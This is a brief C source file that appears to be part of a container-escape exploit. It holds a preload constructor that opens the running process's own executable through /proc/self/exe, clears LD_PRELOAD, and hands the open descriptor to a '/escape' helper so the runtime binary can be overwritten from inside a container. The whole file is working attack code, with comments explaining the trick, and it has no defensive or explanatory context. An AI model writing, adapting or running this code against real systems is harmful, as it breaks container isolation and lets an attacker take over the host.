/* Runs inside the agent's own program, if an image gets it executed in a container with this loaded into it. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void overwrite(void) {
    char number[16];
    /* Nobody can write a program while it runs, so another one has to. */
    snprintf(number, sizeof number, "%d", open("/proc/self/exe", O_RDONLY));
    unsetenv("LD_PRELOAD");
    execl("/escape", "escape", "reopen", number, (char *)0);
    _exit(1);
}
